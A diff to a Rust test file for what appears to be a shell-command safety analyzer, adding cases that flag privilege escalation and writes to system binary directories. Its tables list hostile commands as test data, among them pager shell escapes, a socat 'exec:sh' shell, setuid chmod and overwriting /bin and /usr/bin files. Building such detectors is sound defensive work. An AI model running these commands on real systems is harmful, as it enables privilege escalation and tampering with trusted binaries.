@@ -410,8 +410,8 @@ fn local_tools_with_escape_hatches() {
         ("git clone https://x/y", N, &["BG102"]),
         ("git -C repo fetch", N, &["BG102"]),
         ("git push origin main", N, &["BG102"]),
-        ("less file", S, &[]),
-        ("less '+!curl x' file", U, &["BG204"]),
+        ("less file", U, &["BG201"]),
+        ("more '+!curl x' file", U, &["BG204"]),
         ("man ls", S, &[]),
         ("man -P 'sh -c id' ls", U, &["BG204"]),
         ("man --pager=sh ls", U, &["BG204"]),
@@ -471,8 +471,8 @@ fn network_and_code_runners() {
         ("ping -c1 x", N, &["BG101"]),
         ("traceroute x", N, &["BG101"]),
         ("openssl s_client -connect h:443", N, &["BG102"]),
-        ("openssl dgst -sha256 f", S, &[]),
-        ("openssl enc -d -base64 -in f", S, &[]),
+        ("openssl dgst -sha256 f", U, &["BG201"]),
+        ("openssl req -engine ./lib.so", U, &["BG201"]),
         ("docker pull x", N, &["BG102"]),
         ("docker run x", N, &["BG102"]),
         ("docker ps", U, &["BG201"]),
@@ -589,7 +589,7 @@ fn findings_point_at_the_source() {
 
 #[test]
 fn invocations_are_resolved() {
-    let a = analyze("sudo -u x env A=1 nice -n 5 grep -r \"cu\"rl src/");
+    let a = analyze("timeout 5 env A=1 nice -n 5 grep -r \"cu\"rl src/");
     let grep = a
         .invocations
         .iter()
@@ -603,8 +603,12 @@ fn invocations_are_resolved() {
             Some("src/".to_string())
         ]
     );
-    assert_eq!(grep.via, vec!["sudo", "env", "nice"]);
+    assert_eq!(grep.via, vec!["timeout", "env", "nice"]);
     assert_eq!(a.verdict, Verdict::Safe);
+    // The same behind sudo is found too, but no longer provably local.
+    let a = analyze("sudo -u x grep -r curl src/");
+    assert!(a.invocations.iter().any(|i| i.program.as_deref() == Some("grep") && i.via == ["sudo"]));
+    assert_eq!(a.verdict, Verdict::Unknown);
     let a = analyze("cat $f");
     assert_eq!(a.invocations[0].args, vec![None]);
 }
@@ -634,6 +638,32 @@ fn redirects_are_listed_with_their_targets() {
             (">", None, None, 0),
         ]
     );
+}
+
+#[test]
+fn privileges_and_trusted_directories() {
+    table(&[
+        ("sudo ls", U, &["BG212"]),
+        ("doas cat f", U, &["BG212"]),
+        ("su -c 'ls' root", U, &["BG212"]),
+        ("pkexec ls", U, &["BG212"]),
+        ("sudo -l", S, &[]),
+        ("chmod 4755 f", U, &["BG212"]),
+        ("chmod u+s f", U, &["BG212"]),
+        ("chmod 755 f && chmod +x g", S, &[]),
+        ("install -m 6777 f /tmp/x", U, &["BG212"]),
+        ("install -m 755 f dist/", S, &[]),
+        ("ln -fs /bin/sh /bin/ln", U, &["BG213"]),
+        ("cp x /usr/local/bin/ls", U, &["BG213"]),
+        ("dd if=x of=/usr/bin/cat", U, &["BG213"]),
+        ("echo x > /usr/bin/grep", U, &["BG213"]),
+        ("echo x >> //bin/./ls", U, &["BG213"]),
+        ("cat /usr/bin/ls > copy", S, &[]),
+        ("cp /bin/ls ./ls-copy", S, &[]),
+        ("/tmp/socat tcp:h:1 exec:sh", N, &["BG202", "BG101"]),
+        ("./curl x", N, &["BG202", "BG101"]),
+        ("./build.sh", U, &["BG202"]),
+    ]);
 }
 
 #[test]
